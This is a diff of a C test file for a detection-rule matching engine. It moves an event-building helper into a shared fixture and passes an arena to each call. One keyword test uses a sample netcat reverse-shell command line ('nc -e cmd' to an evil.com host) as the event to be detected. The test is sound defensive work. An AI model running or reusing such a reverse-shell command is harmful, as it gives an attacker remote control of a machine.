@@ -1,4 +1,5 @@
 /* Detection matching: values, wildcards, modifiers, conditions. */
+#include "event_fixture.h"
 #include "mh_test.h"
 #include "rule/rule.h"
 
@@ -8,22 +9,6 @@
 #include <stdlib.h>
 
 static mh_arena arena;
-
-/* ev_make(&ev, FIELD, "value", FIELD, "value", ..., MH_F_NONE) */
-static void ev_make(mh_event *ev, ...)
-{
-	va_list ap;
-	int f;
-
-	mh_event_clear(ev);
-	ev->arena = &arena;
-	va_start(ap, ev);
-	while ((f = va_arg(ap, int)) != MH_F_NONE) {
-		const char *v = va_arg(ap, const char *);
-		mh_event_set(ev, (mh_field)f, v, strlen(v));
-	}
-	va_end(ap);
-}
 
 /* Build a ruleset from detection text (the lines under `detection:`,
  * indented by two spaces). NULL (and a message) on error. */
@@ -80,7 +65,7 @@ static int hit(const char *sel, const mh_event *ev)
 static int hit1(const char *sel, mh_field f, const char *v)
 {
 	mh_event ev;
-	ev_make(&ev, f, v, MH_F_NONE);
+	ev_make(&ev, &arena, f, v, MH_F_NONE);
 	return hit(sel, &ev);
 }
 
@@ -180,7 +165,7 @@ static void test_null_exists(void)
 {
 	mh_event ev;
 
-	ev_make(&ev, IMG, "x", MH_F_NONE);
+	ev_make(&ev, &arena, IMG, "x", MH_F_NONE);
 	MH_CHECK_EQ_INT(hit("    CommandLine: null", &ev), 1);
 	MH_CHECK_EQ_INT(hit("    Image: null", &ev), 0);
 	MH_CHECK_EQ_INT(hit("    CommandLine: [null, a]", &ev), 1);
@@ -190,7 +175,7 @@ static void test_null_exists(void)
 	MH_CHECK_EQ_INT(hit("    CommandLine|exists: false", &ev), 1);
 	MH_CHECK_EQ_INT(hit("    CommandLine|exists: true", &ev), 0);
 	/* empty string is set, not null */
-	ev_make(&ev, IMG, "", MH_F_NONE);
+	ev_make(&ev, &arena, IMG, "", MH_F_NONE);
 	MH_CHECK_EQ_INT(hit("    Image: null", &ev), 0);
 	MH_CHECK_EQ_INT(hit("    Image|exists: true", &ev), 1);
 }
@@ -413,7 +398,7 @@ static void test_fieldref(void)
 {
 	mh_event ev;
 
-	ev_make(&ev, MH_F_SOURCE_IP, "10.0.0.1", MH_F_DESTINATION_IP,
+	ev_make(&ev, &arena, MH_F_SOURCE_IP, "10.0.0.1", MH_F_DESTINATION_IP,
 		"10.0.0.1", MH_F_USER, "Bob", MH_F_COMMAND_LINE,
 		"run as BOB now", MH_F_NONE);
 	MH_CHECK_EQ_INT(hit("    SourceIp|fieldref: DestinationIp", &ev), 1);
@@ -447,9 +432,9 @@ static void test_expand(void)
 	MH_CHECK(mh_ruleset_add_yaml(rs, "x", y, strlen(y), NULL) == MH_OK);
 	MH_CHECK(mh_ruleset_compile(rs, NULL) == MH_OK);
 	MH_CHECK(mh_match_ctx_new(rs, &m) == MH_OK);
-	ev_make(&ev, IMG, "C:\\P\\THUNDERBIRD.exe", MH_F_NONE);
+	ev_make(&ev, &arena, IMG, "C:\\P\\THUNDERBIRD.exe", MH_F_NONE);
 	MH_CHECK_EQ_INT(mh_ruleset_match(rs, m, &ev, out, 2), 1);
-	ev_make(&ev, IMG, "C:\\P\\chrome.exe", MH_F_NONE);
+	ev_make(&ev, &arena, IMG, "C:\\P\\chrome.exe", MH_F_NONE);
 	MH_CHECK_EQ_INT(mh_ruleset_match(rs, m, &ev, out, 2), 0);
 	mh_match_ctx_free(m);
 	mh_ruleset_free(rs);
@@ -462,8 +447,8 @@ static void test_keywords(void)
 {
 	mh_event ev;
 
-	ev_make(&ev, IMG, "C:\\x\\nc.exe", CL, "nc -e cmd smtp.evil.com",
-		MH_F_NONE);
+	ev_make(&ev, &arena, IMG, "C:\\x\\nc.exe", CL,
+		"nc -e cmd smtp.evil.com", MH_F_NONE);
 	MH_CHECK_EQ_INT(hit_det("  keywords:\n    - evil.com\n    - zzz\n"
 				"  condition: keywords",
 				&ev),
@@ -558,7 +543,7 @@ static void test_conditions(void)
 	    {"all of them or a", 1},
 	};
 
-	ev_make(&ev, IMG, "a", CL, "b", MH_F_USER, "zz", MH_F_HOST, "h",
+	ev_make(&ev, &arena, IMG, "a", CL, "b", MH_F_USER, "zz", MH_F_HOST, "h",
 		MH_F_NONE);
 	for (size_t i = 0; i < MH_ARRAY_LEN(cases); i++) {
 		int got;
@@ -571,7 +556,7 @@ static void test_conditions(void)
 		MH_CHECK_EQ_INT(got, cases[i].want);
 	}
 	/* `them` skips _-prefixed selections: all of them with only a, b */
-	ev_make(&ev, IMG, "a", CL, "b", MH_F_USER, "c", MH_F_NONE);
+	ev_make(&ev, &arena, IMG, "a", CL, "b", MH_F_USER, "c", MH_F_NONE);
 	snprintf(buf, sizeof(buf), "%s  condition: all of them", sels);
 	MH_CHECK_EQ_INT(hit_det(buf, &ev), 1);
 	/* a list of conditions = OR */
@@ -598,7 +583,7 @@ static void test_match_order_and_cap(void)
 	MH_CHECK(mh_ruleset_add_yaml(rs, "x", y, strlen(y), NULL) == MH_OK);
 	MH_CHECK(mh_ruleset_compile(rs, NULL) == MH_OK);
 	MH_CHECK(mh_match_ctx_new(rs, &m) == MH_OK);
-	ev_make(&ev, IMG, "A", MH_F_NONE);
+	ev_make(&ev, &arena, IMG, "A", MH_F_NONE);
 	MH_CHECK_EQ_INT(mh_ruleset_match(rs, m, &ev, out, 3), 2);
 	MH_CHECK_EQ_INT(out[0], 0);
 	MH_CHECK_EQ_INT(out[1], 2);
